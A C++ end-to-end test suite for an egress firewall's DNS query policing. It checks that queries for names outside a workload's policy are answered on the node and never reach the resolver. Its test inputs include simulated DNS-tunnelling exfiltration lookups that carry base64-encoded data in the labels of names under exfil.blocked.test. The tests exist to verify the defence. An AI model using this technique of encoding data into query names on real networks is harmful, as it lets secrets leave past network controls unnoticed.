// Queries policed (THREATS.md, "Encrypted or tunnelled DNS"): a workload whose Egress
// says `queries: deny` may not write data into query names. A query for a name its
// policy does not allow is answered on the node (NXDOMAIN) and never reaches the
// resolver, which logs every query it receives (lab/unbound.conf.in: log-queries);
// allowed names, and names under a queryable suffix, are resolved as before; DNS over
// TLS (port 853) opens only by a rule that lists the port.
#include <gtest/gtest.h>

#include <memory>
#include <string>

#include "firewall_test_fixture.h"
#include "kubernetes_fixture.h"

namespace skouter::e2e {
namespace {

// github.com by an exact name, *.cdn.test by a wildcard, *.wikipedia.org (the seed
// example's regex) by the daemon; 203.0.113.80 on every port, 203.0.113.81 on 853 only.
constexpr const char* kQueriesPolicy = R"(apiVersion: egress.skouter/v1alpha1
kind: Egress
metadata:
  name: queries
spec:
  nodeSelector: {}
  queries: deny
  rules:
    - domains: [github.com, "*.cdn.test"]
    - ips: [203.0.113.80, "2001:db8:100::80"]
    - ips: [203.0.113.81]
      ports: [{port: 853, protocol: TCP}]
)";

// dig's status line ("NOERROR", "NXDOMAIN", ...), or the whole output when it has none
// (no answer at all).
std::string digStatus(const CommandResult& result) {
  const auto at = result.out.find("status: ");
  if (at == std::string::npos) return result.describe();
  const auto end = result.out.find(',', at);
  return result.out.substr(at + 8, end - at - 8);
}

std::string dig(const std::string& name, const std::string& type = "A",
                const std::string& server = "198.51.100.53") {
  // One try, answered or not within 2 s: a held query never answered would time out.
  return "dig +tries=1 +timeout=2 @" + server + " " + name + " " + type;
}

class QueryPolicingTest : public FirewallTest {
 protected:
  void startWith(std::vector<std::string> flags = {}) {
    policies_.write("queries.yaml", kQueriesPolicy);
    startDaemon(std::move(flags));
  }

  // Every query the lab's resolver received so far.
  std::string resolverLog() const {
    return lab_->run("world", "cat /run/skouter-lab/" + lab_->name() + "/unbound.log").out;
  }

  std::uint64_t judged(const std::string& verdict, const std::string& reason) {
    std::uint64_t queries = 0;
    const auto status = daemon_->status();  // the loop below reads into it
    for (const auto& entry : status["queries"]["judged"]) {
      if (entry["verdict"] == verdict && entry["reason"] == reason) {
        queries += entry["queries"].get<std::uint64_t>();
      }
    }
    return queries;
  }
};

TEST_F(QueryPolicingTest, ADeniedNameIsAnsweredOnTheNodeAndNeverReachesTheResolver) {
  startWith();
  // The tunnel: data written into the labels of a name no rule allows, as TXT.
  for (const std::string family : {"198.51.100.53", "2001:db8:1::53"}) {
    const auto denied = node(dig("c2VjcmV0.exfil.blocked.test", "TXT", family));
    EXPECT_EQ(digStatus(denied), "NXDOMAIN") << denied.describe() << daemon_->log();
    const auto denied6 = node(dig("ZGF0YQ.exfil.blocked.test", "AAAA", family));
    EXPECT_EQ(digStatus(denied6), "NXDOMAIN") << denied6.describe();
  }
  // Allowed names are resolved by the resolver, as before: by the datapath alone (an
  // exact name, a wildcard), or after the daemon judged it (the seed example's regex).
  const auto exact = node(dig("github.com") + " +short");
  EXPECT_EQ(exact.out, "203.0.113.20\n") << exact.describe();
  const auto wildcard = node(dig("origin.cdn.test") + " +short");
  EXPECT_EQ(wildcard.out, "203.0.113.40\n") << wildcard.describe();
  const auto regex = node(dig("de.wikipedia.org") + " +short");
  EXPECT_EQ(regex.out, "203.0.113.12\n") << regex.describe();

  // Over TCP the datapath decides alone: a listed name goes out, any other query's
  // segment is dropped (the client times out; nothing reaches the resolver).
  const auto tcp = node(dig("github.com") + " +tcp +short");
  EXPECT_EQ(tcp.out, "203.0.113.20\n") << tcp.describe();
  const auto tcp_denied = node(dig("dGNw.exfil.blocked.test", "TXT") + " +tcp");
  EXPECT_EQ(tcp_denied.out.find("status:"), std::string::npos) << tcp_denied.describe();
  EXPECT_GE(counter("datapath", "dns_query_denied"), 1u);

  const std::string seen = resolverLog();
  EXPECT_NE(seen.find("github.com."), std::string::npos) << seen;
  EXPECT_NE(seen.find("de.wikipedia.org."), std::string::npos) << seen;
  EXPECT_EQ(seen.find("exfil"), std::string::npos) << seen;

  EXPECT_GE(counter("datapath", "dns_query_allowed"), 2u);
  EXPECT_GE(judged("allowed", "allowed_name"), 1u) << daemon_->status()["queries"].dump();
  EXPECT_GE(judged("denied", "name_not_allowed"), 4u) << daemon_->status()["queries"].dump();
  // The regex's answer opened its address, as any answer does.
  const auto connected = node(httpGet("http://de.wikipedia.org/"));
  EXPECT_TRUE(connected.ok()) << connected.describe();

  // The audit table lists the denied names of the workload, with its rate.
  const auto audit = daemon_->ctlJson("audit");
  ASSERT_FALSE(audit["denied_queries"].empty()) << audit.dump();
  const auto& host = audit["denied_queries"][0];
  EXPECT_GE(host["denied"].get<int>(), 4) << host.dump();
  EXPECT_GT(host["per_minute"].get<double>(), 0) << host.dump();
  EXPECT_NE(host["latest_names"].dump().find("c2vjcmv0.exfil.blocked.test"), std::string::npos)
      << host.dump();
  const auto table = ctl({"audit"});
  EXPECT_NE(table.out.find("Denied queries"), std::string::npos) << table.describe();
}

TEST_F(QueryPolicingTest, QueryableSuffixesAndDohResolverNamesAreTheirOwnCase) {
  // shop.cdn.test plays a public DNS-over-HTTPS resolver: *.cdn.test does not cover it.
  startWith({"--allow-query-suffix", "lab", "--encrypted-dns-names", "shop.cdn.test"});
  const auto cluster = node(dig("ns.lab") + " +short");
  EXPECT_EQ(cluster.out, "198.51.100.53\n") << cluster.describe();
  const auto doh = node(dig("shop.cdn.test"));
  EXPECT_EQ(digStatus(doh), "NXDOMAIN") << doh.describe();
  // Another name under the same wildcard is still allowed (by the daemon now: the
  // datapath cannot leave one name out of a wildcard).
  const auto other = node(dig("api.cdn.test") + " +short");
  EXPECT_EQ(other.out, "203.0.113.71\n") << other.describe();
  EXPECT_GE(judged("denied", "encrypted_dns_resolver"), 1u);
  EXPECT_EQ(resolverLog().find("shop.cdn.test"), std::string::npos);
}

TEST_F(QueryPolicingTest, DnsOverTlsOpensOnlyByARuleThatListsItsPort) {
  startWith();
  auto server = lab_->startBackground(
      "world", "exec python3 " + sourcePath("tests/e2e/lab/http_server.py") + " --port 853");
  ASSERT_TRUE(
      eventually([&] { return lab_->run("world", "ss -Hltn 'sport = :853' | grep -q .").ok(); }));
  // Allowed on every port, but not on 853: no DNS over TLS past the query check.
  const auto any_port = node(httpGet("http://203.0.113.80:853/"));
  EXPECT_EQ(any_port.exit_code, kCurlTimedOut) << any_port.describe();
  EXPECT_GE(counter("datapath", "egress_dns_port"), 1u);
  // The other ports of that address stay open.
  const auto other_port = node(httpGet("http://203.0.113.80:80/"));
  EXPECT_TRUE(other_port.ok()) << other_port.describe();
  // A rule that names the port opens it.
  const auto named = node(httpGet("http://203.0.113.81:853/"));
  EXPECT_TRUE(named.ok()) << named.describe();
}

TEST_F(QueryPolicingTest, MonitorShowsDeniedQueriesAnsweredAsConfigured) {
  // A denied query gets the configured answer: REFUSED here.
  startWith({"--deny-response", "refused"});
  auto monitor =
      lab_->startBackground("node", skouterctlPath() + " --socket " + daemon_->socketPath() +
                                        " monitor --type dns_query");
  ASSERT_TRUE(eventually([&] { return daemon_->status()["events"]["subscribers"] == 1; }))
      << monitor->output();
  const auto refused = node(dig("x1.tunnel.blocked.test", "TXT"));
  EXPECT_EQ(digStatus(refused), "REFUSED") << refused.describe();
  EXPECT_TRUE(eventually([&] {
    const auto shown = monitor->output();
    return shown.find("QUERY DENIED") != std::string::npos &&
           shown.find("x1.tunnel.blocked.test TXT (name_not_allowed)") != std::string::npos;
  })) << monitor->output();
}

TEST_F(QueryPolicingTest, WithoutPolicingEveryNameReachesTheResolverAsBefore) {
  startDaemon();
  const auto query = node(dig("x2.tunnel.blocked.test", "TXT"));
  EXPECT_EQ(digStatus(query), "NXDOMAIN") << query.describe();
  EXPECT_NE(resolverLog().find("x2.tunnel.blocked.test"), std::string::npos);
  EXPECT_EQ(counter("datapath", "dns_query_held"), 0u);
}

// A pod's held query is received again on its interface once allowed; a denied one is
// answered into the pod.
class PodQueryPolicingTest : public KubernetesTest {
 protected:
  void SetUp() override {
    KubernetesTest::SetUp();
    if (IsSkipped()) return;
    api_->write("web-egress.yaml",
                "apiVersion: egress.skouter/v1alpha1\nkind: Egress\nmetadata:\n  name: web\n"
                "  namespace: shop\nspec:\n  podSelector: {matchLabels: {app: web}}\n"
                "  queries: deny\n  rules:\n"
                "    - domains: [example.com]\n"
                "    - regex: ['.*\\.wikipedia\\.org']\n");
    // Applied once the pod's queries are held (a probe, never asserted on below).
    ASSERT_TRUE(eventually(
        [&] {
          pod("a", dig("probe.blocked.test", "TXT"));
          return counter("datapath", "dns_query_held") > 0;
        },
        std::chrono::seconds(15)))
        << daemon_->log();
  }
};

TEST_F(PodQueryPolicingTest, APodQueriesOnlyWhatItsPolicyAllows) {
  const auto denied = pod("a", dig("c2VjcmV0.exfil.blocked.test", "TXT"));
  EXPECT_EQ(digStatus(denied), "NXDOMAIN") << denied.describe() << daemon_->log();
  const auto denied6 = pod("a", dig("ZGF0YQ.exfil.blocked.test", "TXT", "2001:db8:1::53"));
  EXPECT_EQ(digStatus(denied6), "NXDOMAIN") << denied6.describe();
  // Judged by the daemon (a regex), released into the pod's interface again.
  const auto regex = pod("a", dig("de.wikipedia.org") + " +short");
  EXPECT_EQ(regex.out, "203.0.113.12\n") << regex.describe() << daemon_->log();
  const auto regex6 = pod("a", dig("de.wikipedia.org", "AAAA", "2001:db8:1::53") + " +short");
  EXPECT_EQ(regex6.out, "2001:db8:100::12\n") << regex6.describe();
  const std::string seen =
      lab_->run("world", "cat /run/skouter-lab/" + lab_->name() + "/unbound.log").out;
  EXPECT_EQ(seen.find("exfil"), std::string::npos) << seen;
  EXPECT_NE(seen.find("de.wikipedia.org."), std::string::npos) << seen;
  EXPECT_GE(counter("datapath", "dns_query_released"), 2u);
  // The pod no Egress selects queries what it likes.
  const auto unpoliced = pod("b", dig("x3.tunnel.blocked.test", "TXT"));
  EXPECT_EQ(digStatus(unpoliced), "NXDOMAIN") << unpoliced.describe();
  EXPECT_NE(lab_->run("world", "cat /run/skouter-lab/" + lab_->name() + "/unbound.log")
                .out.find("x3.tunnel.blocked.test"),
            std::string::npos);
}

}  // namespace
}  // namespace skouter::e2e
